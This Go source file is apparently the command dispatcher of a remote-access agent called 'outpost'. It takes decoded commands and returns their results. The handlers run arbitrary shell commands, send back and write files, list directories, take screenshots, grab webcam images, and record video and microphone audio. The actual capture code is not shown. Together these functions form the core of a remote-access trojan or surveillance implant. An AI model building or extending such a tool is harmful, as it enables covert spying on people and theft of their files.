// ABOUTME: Dispatcher routes a decoded command to Capabilities and shapes the reply.
// ABOUTME: No handler failure or panic escapes; every input produces a Response.

package command

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"log/slog"
	"time"

	"github.com/2389/outpost/internal/protocol"
)

// Dispatcher turns command frames into responses.
type Dispatcher struct {
	caps   Capabilities
	logger *slog.Logger
}

// NewDispatcher creates a Dispatcher. Pass nil logger for default.
func NewDispatcher(caps Capabilities, logger *slog.Logger) *Dispatcher {
	if logger == nil {
		logger = slog.Default()
	}
	return &Dispatcher{
		caps:   caps,
		logger: logger.With("component", "dispatcher"),
	}
}

// Dispatch handles one raw command frame.
func (d *Dispatcher) Dispatch(ctx context.Context, payload []byte) protocol.Response {
	cmd, err := Parse(payload)
	if err != nil {
		d.logger.Warn("rejected command", "error", err)
		return protocol.ErrorResponse(err)
	}
	return d.Execute(ctx, cmd)
}

// Execute runs a decoded command.
func (d *Dispatcher) Execute(ctx context.Context, cmd Command) (resp protocol.Response) {
	start := time.Now()
	defer func() {
		if r := recover(); r != nil {
			d.logger.Error("command panicked", "command_type", cmd.Type(), "panic", r)
			resp = protocol.ErrorResponse(protocol.HandlerFailure(fmt.Errorf("panic: %v", r)))
		}
	}()

	resp, err := d.run(ctx, cmd)
	if err != nil {
		var cmdErr *protocol.CommandError
		if !errors.As(err, &cmdErr) {
			cmdErr = protocol.HandlerFailure(err)
		}
		d.logger.Info("command failed",
			"command_type", cmd.Type(),
			"kind", cmdErr.Kind,
			"error", cmdErr.Message,
			"duration", time.Since(start),
		)
		return protocol.ErrorResponse(cmdErr)
	}

	d.logger.Debug("command completed", "command_type", cmd.Type(), "duration", time.Since(start))
	return resp
}

// Release frees resources held by the capability set, if it holds any.
func (d *Dispatcher) Release() {
	if r, ok := d.caps.(Releaser); ok {
		r.Release()
	}
}

func (d *Dispatcher) run(ctx context.Context, cmd Command) (protocol.Response, error) {
	switch c := cmd.(type) {
	case *GetSysinfo:
		info, err := d.caps.SystemInfo(ctx)
		if err != nil {
			return nil, err
		}
		return protocol.Response{"info": info}, nil

	case *ExecuteCommand:
		if c.Command == nil {
			return nil, protocol.MissingParameter("No command specified")
		}
		out, err := d.caps.Execute(ctx, *c.Command)
		if err != nil {
			return nil, err
		}
		return protocol.Response{"output": out}, nil

	case *ListDirectory:
		if c.Path == nil {
			return nil, protocol.MissingParameter("No path specified")
		}
		entries, err := d.caps.ListDirectory(ctx, *c.Path)
		if err != nil {
			return nil, err
		}
		if entries == nil {
			entries = []FileEntry{}
		}
		return protocol.Response{"path": *c.Path, "files": entries}, nil

	case *DownloadFile:
		if c.Path == nil {
			return nil, protocol.MissingParameter("No path specified")
		}
		content, err := d.caps.ReadFile(ctx, *c.Path)
		if err != nil {
			return nil, err
		}
		return protocol.Response{"filename": *c.Path, "content": encodeBlob(content)}, nil

	case *UploadFile:
		if c.Path == nil || c.Content == nil {
			return nil, protocol.MissingParameter("Path or content not specified")
		}
		content, err := base64.StdEncoding.DecodeString(*c.Content)
		if err != nil {
			return nil, protocol.OperationFailed("uploading file", err)
		}
		if err := d.caps.WriteFile(ctx, *c.Path, content); err != nil {
			return nil, err
		}
		return protocol.Response{"path": *c.Path}, nil

	case *TakeScreenshot:
		shot, err := d.caps.Screenshot(ctx)
		if err != nil {
			return nil, err
		}
		return protocol.Response{"screenshot": encodeBlob(shot.Data), "format": shot.Format}, nil

	case *ListCameras:
		cameras, err := d.caps.ListCameras(ctx)
		if err != nil {
			return nil, err
		}
		if cameras == nil {
			cameras = []CameraInfo{}
		}
		return protocol.Response{"cameras": cameras}, nil

	case *CaptureWebcam:
		img, err := d.caps.CaptureWebcam(ctx, c.CameraIndex)
		if err != nil {
			return nil, err
		}
		return protocol.Response{"image": encodeBlob(img.Data), "format": img.Format}, nil

	case *RecordVideo:
		clip, err := d.caps.RecordVideo(ctx, *c)
		if err != nil {
			return nil, err
		}
		return protocol.Response{
			"video":      encodeBlob(clip.Data),
			"format":     clip.Format,
			"duration":   clip.Duration,
			"fps":        clip.FPS,
			"frames":     clip.Frames,
			"resolution": fmt.Sprintf("%dx%d", clip.Width, clip.Height),
		}, nil

	case *ListAudioDevices:
		devices, err := d.caps.ListAudioDevices(ctx)
		if err != nil {
			return nil, err
		}
		if devices == nil {
			devices = []AudioDevice{}
		}
		return protocol.Response{"devices": devices}, nil

	case *RecordAudio:
		params, err := d.caps.StartAudio(ctx, *c)
		if err != nil {
			return nil, err
		}
		return protocol.Response{
			"status":      "recording_started",
			"duration":    params.Duration,
			"sample_rate": params.SampleRate,
			"channels":    params.Channels,
		}, nil

	case *StopAudioRecording:
		clip, err := d.caps.StopAudio(ctx, *c)
		if err != nil {
			return nil, err
		}
		return protocol.Response{
			"audio":       encodeBlob(clip.Data),
			"format":      clip.Format,
			"sample_rate": clip.SampleRate,
			"channels":    clip.Channels,
			"duration":    clip.Duration,
		}, nil
	}

	return nil, fmt.Errorf("no handler for %s", cmd.Type())
}

func encodeBlob(b []byte) string {
	return base64.StdEncoding.EncodeToString(b)
}
